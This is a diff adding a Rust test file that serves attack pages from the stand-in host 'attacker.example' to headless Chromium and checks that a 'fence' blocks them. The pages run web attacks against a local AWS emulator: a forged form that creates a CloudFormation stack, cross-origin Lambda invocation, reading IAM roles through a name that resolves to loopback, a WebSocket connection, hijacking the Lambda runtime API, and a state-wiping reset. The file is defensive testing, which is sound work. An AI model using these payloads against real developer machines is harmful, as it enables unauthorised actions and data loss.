@@ -1,1 +1,262 @@
-//! Attack pages in a real browser.
+//! Attack pages in Chromium. `tests/conformance/browser/run` runs these tests.
+//!
+//! Chromium 142 and later does not let public pages send requests to loopback at all. So the pages
+//! come from loopback, too: from another port, and under a host name that the browser maps to it.
+
+use std::os::unix::process::CommandExt as _;
+use std::process::{Child, Command, Stdio};
+use std::time::Duration;
+
+use harness::{TestStack, run};
+use nix::sys::signal::{Signal, killpg};
+use nix::unistd::Pid;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::net::{TcpListener, TcpStream};
+
+use super::attacks::{CREATE_STACK, credential, web_socket_api};
+use super::runtime_api;
+
+/// A host name that the browser maps to this machine.
+const ATTACKER: &str = "attacker.example";
+
+/// Time limit for a page to report.
+const DEADLINE: Duration = Duration::from_mins(1);
+
+/// The browser, which is killed when this is dropped.
+struct Browser(Child);
+
+impl Browser {
+    fn open(url: &str, profile: &str) -> Self {
+        let mut command = Command::new(std::env::var("BROWSER").unwrap());
+        command.args(["--headless=new", "--no-first-run", "--disable-gpu", "--disable-sync"]);
+        command.arg(format!("--host-resolver-rules=MAP {ATTACKER} 127.0.0.1"));
+        command.arg(format!("--user-data-dir={profile}"));
+        if nix::unistd::geteuid().is_root() {
+            // Chromium has no sandbox for root.
+            command.arg("--no-sandbox");
+        }
+        command.arg(url).stdout(Stdio::null()).stderr(Stdio::null()).process_group(0);
+        Self(command.spawn().unwrap())
+    }
+}
+
+impl Drop for Browser {
+    fn drop(&mut self) {
+        let group = Pid::from_raw(self.0.id().try_into().unwrap());
+        let _ended = killpg(group, Signal::SIGKILL);
+        let _status = self.0.wait();
+    }
+}
+
+/// Serves a page under a host name, opens it, and returns what its function `attack` reports.
+async fn report(host: &str, html: &str, attack: &str) -> String {
+    let listener = TcpListener::bind(("127.0.0.1", 0)).await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let page = format!(
+        "<!DOCTYPE html><title>A page</title>{html}<script>
+        const wait = (time) => new Promise((done) => setTimeout(done, time));
+        async function attack() {{ {attack} }}
+        attack().catch((error) => `failed: ${{error}}`)
+            .then((report) => fetch('/report', {{method: 'POST', body: report}}));
+        </script>"
+    );
+    let profile = std::env::temp_dir().join(format!("pixgauge-browser-{port}"));
+    let browser = Browser::open(&format!("http://{host}:{port}/"), profile.to_str().unwrap());
+    let serving = async {
+        loop {
+            let (connection, _) = listener.accept().await.unwrap();
+            if let Some(report) = serve(connection, &page).await {
+                return report;
+            }
+        }
+    };
+    let report = tokio::time::timeout(DEADLINE, serving).await;
+    drop(browser);
+    let _removed = std::fs::remove_dir_all(profile);
+    report.unwrap_or_else(|_| panic!("the page did not report"))
+}
+
+/// Serves one request. Returns the body of a report.
+async fn serve(mut connection: TcpStream, page: &str) -> Option<String> {
+    let mut request = Vec::new();
+    // Connections that the browser opens in advance carry no request.
+    let read = async {
+        loop {
+            let text = String::from_utf8_lossy(&request).into_owned();
+            if let Some((head, body)) = text.split_once("\r\n\r\n") {
+                let length = head.lines().find_map(|line| {
+                    let (name, value) = line.split_once(": ")?;
+                    name.eq_ignore_ascii_case("content-length").then(|| value.parse().ok())?
+                });
+                if body.len() >= length.unwrap_or(0) {
+                    return Some((head.to_owned(), body.to_owned()));
+                }
+            }
+            if connection.read_buf(&mut request).await.ok()? == 0 {
+                return None;
+            }
+        }
+    };
+    let (head, body) = tokio::time::timeout(Duration::from_secs(2), read).await.ok()??;
+    let is_report = head.starts_with("POST /report");
+    let content = if head.starts_with("GET / ") { page } else { "" };
+    let answer = format!(
+        "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\
+         Connection: close\r\n\r\n{content}",
+        content.len()
+    );
+    connection.write_all(answer.as_bytes()).await.ok()?;
+    is_report.then_some(body)
+}
+
+/// A page and its effect.
+#[derive(Debug, Clone, Copy)]
+enum Attack {
+    FormToCloudFormation,
+    TextToLambda,
+    NameThatResolvesToLoopback,
+    KeyIdInAQuery,
+    ApiFromElsewhere,
+    WebSocket,
+    RuntimeApi,
+    Reset,
+}
+
+/// All attacks. A reset comes last, as nothing is left after it.
+const ATTACKS: [Attack; 8] = [
+    Attack::FormToCloudFormation,
+    Attack::TextToLambda,
+    Attack::NameThatResolvesToLoopback,
+    Attack::KeyIdInAQuery,
+    Attack::ApiFromElsewhere,
+    Attack::WebSocket,
+    Attack::RuntimeApi,
+    Attack::Reset,
+];
+
+impl Attack {
+    /// Tries the attack. True if it has an effect.
+    async fn succeeds(self, stack: &TestStack) -> bool {
+        let endpoint = stack.stack.aws.endpoint();
+        let port = endpoint.rsplit(':').next().unwrap();
+        let roles = format!("?Action=ListRoles&Version=2010-05-08&{}", credential("test", "iam"));
+        match self {
+            Self::FormToCloudFormation => {
+                let fields: String = CREATE_STACK
+                    .split('&')
+                    .map(|field| {
+                        let (name, value) = field.split_once('=').unwrap();
+                        let value = percent_encoding::percent_decode_str(value).decode_utf8();
+                        format!("<input name='{name}' value='{}'>", value.unwrap())
+                    })
+                    .collect();
+                let form = format!(
+                    "<iframe name=frame></iframe><form method=post target=frame \
+                     action='{endpoint}/?{}'>{fields}</form>",
+                    credential("test", "cloudformation")
+                );
+                report(ATTACKER, &form, "document.forms[0].submit(); await wait(3000)").await;
+                let queues = stack.stack.aws.sqs.list_queues().send().await.unwrap();
+                queues.queue_urls().iter().any(|url| url.contains("attack"))
+            }
+            Self::TextToLambda => {
+                let group = stack.log_group("head-object");
+                let before = stack.log(&group).await.len();
+                let function = stack.function("head-object");
+                let script = format!(
+                    "await fetch('{endpoint}/2015-03-31/functions/{function}/invocations?{}', \
+                     {{method: 'POST', mode: 'no-cors', body: '{{}}'}}); await wait(2000)",
+                    credential("test", "lambda")
+                );
+                report(ATTACKER, "", &script).await;
+                stack.log(&group).await.len() > before
+            }
+            Self::NameThatResolvesToLoopback => {
+                let script =
+                    format!("return (await fetch('http://{ATTACKER}:{port}/{roles}')).text()");
+                report(ATTACKER, "", &script).await.contains("RoleName")
+            }
+            Self::KeyIdInAQuery => {
+                let script = format!("return (await fetch('{endpoint}/{roles}')).text()");
+                report(ATTACKER, "", &script).await.contains("RoleName")
+            }
+            Self::ApiFromElsewhere => reads_api(stack, ATTACKER).await,
+            Self::WebSocket => {
+                let api = web_socket_api(stack).await;
+                let script = format!(
+                    "return new Promise((done) => {{
+                        const socket =
+                            new WebSocket('ws://127.0.0.1:{port}/_aws/execute-api/{api}/live');
+                        socket.onopen = () => done('open');
+                        socket.onerror = () => done('error');
+                    }})"
+                );
+                report(ATTACKER, "", &script).await == "open"
+            }
+            Self::RuntimeApi => {
+                let event = stack.event("Object Created", "uploads/nothing.png", None);
+                stack.invoke("head-object", &event).await.unwrap();
+                let port = runtime_api::port_of(&stack.function("head-object")).unwrap();
+                let next = format!("http://127.0.0.1:{port}/2018-06-01/runtime/invocation/next");
+                let script = format!(
+                    "for (let poll = 0; poll < 6; poll += 1) fetch('{next}', {{mode: 'no-cors'}}); \
+                     await wait(20000)"
+                );
+                let invocations = async {
+                    tokio::time::sleep(Duration::from_secs(8)).await;
+                    for _ in 0..5 {
+                        if stack.invoke("head-object", &event).await.is_err() {
+                            return true;
+                        }
+                    }
+                    false
+                };
+                tokio::join!(report(ATTACKER, "", &script), invocations).1
+            }
+            Self::Reset => {
+                let script = format!(
+                    "await fetch('{endpoint}/_ministack/reset', {{method: 'POST', mode: 'no-cors'}})"
+                );
+                report(ATTACKER, "", &script).await;
+                let tables = stack.stack.aws.dynamodb.list_tables().send().await.unwrap();
+                !tables.table_names().contains(&stack.stack.outputs.table_name)
+            }
+        }
+    }
+}
+
+/// True if a page of this host can read the API.
+async fn reads_api(stack: &TestStack, host: &str) -> bool {
+    let url = format!("{}/images/info", stack.stack.outputs.api_url);
+    let script = format!("return (await fetch('{url}')).text()");
+    report(host, "", &script).await.contains("contentTypes")
+}
+
+#[test]
+#[ignore = "needs chromium or google-chrome: run tests/conformance/browser/run"]
+fn pages_succeed_without_the_fence_only() {
+    run(async {
+        let open = TestStack::unfenced("open-pages").await;
+        for attack in ATTACKS {
+            assert!(attack.succeeds(&open).await, "{attack:?} is no attack");
+            println!("{attack:?} succeeds without the fence");
+        }
+        drop(open);
+        let fenced = TestStack::own("fenced-pages").await;
+        for attack in ATTACKS {
+            assert!(!attack.succeeds(&fenced).await, "{attack:?} succeeds");
+            println!("{attack:?} fails with the fence");
+        }
+    });
+}
+
+#[test]
+#[ignore = "needs chromium or google-chrome: run tests/conformance/browser/run"]
+fn front_end_on_another_port_reads_the_api() {
+    run(async {
+        let stack = TestStack::shared().await;
+        for host in ["127.0.0.1", "localhost"] {
+            assert!(reads_api(stack, host).await, "{host}");
+        }
+    });
+}
